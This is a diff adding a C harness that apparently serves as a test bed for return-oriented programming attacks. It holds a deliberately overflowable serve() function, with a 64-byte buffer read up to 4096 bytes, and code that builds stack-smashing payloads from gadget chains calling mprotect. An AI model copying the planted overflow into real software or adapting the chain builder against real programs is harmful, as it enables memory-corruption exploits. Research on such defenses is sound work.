@@ -1,0 +1,125 @@
+/* The server around the attacks. */
+#define _GNU_SOURCE
+#include "attack.h"
+
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <time.h>
+#include <unistd.h>
+
+char *page;
+word page_size = 4096;
+static int pipe_fds[2];
+static volatile size_t slot_offset; /* from the buffer of serve() to its return slot */
+static volatile word saved_frame;
+
+__attribute__((noinline)) void win(void)
+{
+	mprotect(page, page_size, PROT_READ | PROT_EXEC);
+	exit42();
+}
+
+__attribute__((noinline)) void win_returns(void)
+{
+	mprotect(page, page_size, PROT_READ | PROT_EXEC);
+}
+
+__attribute__((noinline)) long serve(int fd)
+{
+	volatile char buffer[64];
+	char *frame = __builtin_frame_address(0);
+	long n;
+
+	slot_offset = frame + 8 - (char *)buffer;
+	saved_frame = *(word *)frame;
+	n = read(fd, (char *)buffer, 4096);
+	return n + buffer[0];
+}
+
+__attribute__((noinline)) void corrupt(const word *words, size_t n)
+{
+	volatile word *slot = (volatile word *)((char *)__builtin_frame_address(0) + 8);
+	size_t i;
+
+	for (i = 0; i < n; i++)
+		slot[i] = words[i];
+}
+
+size_t chain(word *words, int call_preceded, int nops, int padding)
+{
+	size_t n = 0;
+	int i;
+	const word pieces[][2] = {
+		{(word)(call_preceded ? cp_pop_rdi : g_pop_rdi), (word)page},
+		{(word)(call_preceded ? cp_pop_rsi : g_pop_rsi), page_size},
+		{(word)(call_preceded ? cp_pop_rdx : g_pop_rdx), PROT_READ | PROT_EXEC},
+		{(word)(call_preceded ? cp_pop_rax : g_pop_rax), 10},
+	};
+
+	for (i = 0; i < padding; i++) {
+		words[n++] = (word)g_pop_rdi;
+		words[n++] = i;
+	}
+	for (i = 0; i < 4; i++) {
+		words[n++] = pieces[i][0];
+		words[n++] = pieces[i][1];
+		if (nops)
+			words[n++] = (word)g_nops;
+	}
+	words[n++] = (word)(call_preceded ? cp_syscall : g_syscall);
+	if (nops)
+		words[n++] = (word)g_nops;
+	words[n++] = (word)(call_preceded ? cp_exit : (char *)exit42);
+	return n;
+}
+
+void request(const word *words, size_t n)
+{
+	char bytes[4096] = "an honest request";
+	size_t length = 32;
+
+	if (n) {
+		memset(bytes, 'A', slot_offset - 8);
+		memcpy(bytes + slot_offset - 8, (const void *)&saved_frame, 8);
+		memcpy(bytes + slot_offset, words, n * sizeof(*words));
+		length = slot_offset + n * sizeof(*words);
+	}
+	if (write(pipe_fds[1], bytes, length) != (ssize_t)length)
+		_exit(3);
+	serve(pipe_fds[0]);
+}
+
+static void *volatile keep;
+
+void warm_up(void (*also)(void))
+{
+	const struct timespec pause = {0, 2000000};
+	const char *rounds = getenv("ATTACK_ROUNDS");
+	int i, n = rounds ? atoi(rounds) : 80;
+
+	page = mmap(0, page_size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (page == MAP_FAILED || pipe(pipe_fds))
+		_exit(3);
+	for (i = 0; i < n; i++) {
+		word stay = 0;
+
+		request(0, 0);
+		/* A stack that others use too: what attacks write above their frames is warm memory. */
+		keep = __builtin_alloca(4096);
+		*(volatile char *)keep = i;
+		if (also)
+			also();
+		else
+			corrupt(&stay, 0);
+		nanosleep(&pause, 0);
+	}
+}
+
+void ready(void)
+{
+	if (getenv("ATTACK_STOP"))
+		raise(SIGSTOP);
+}
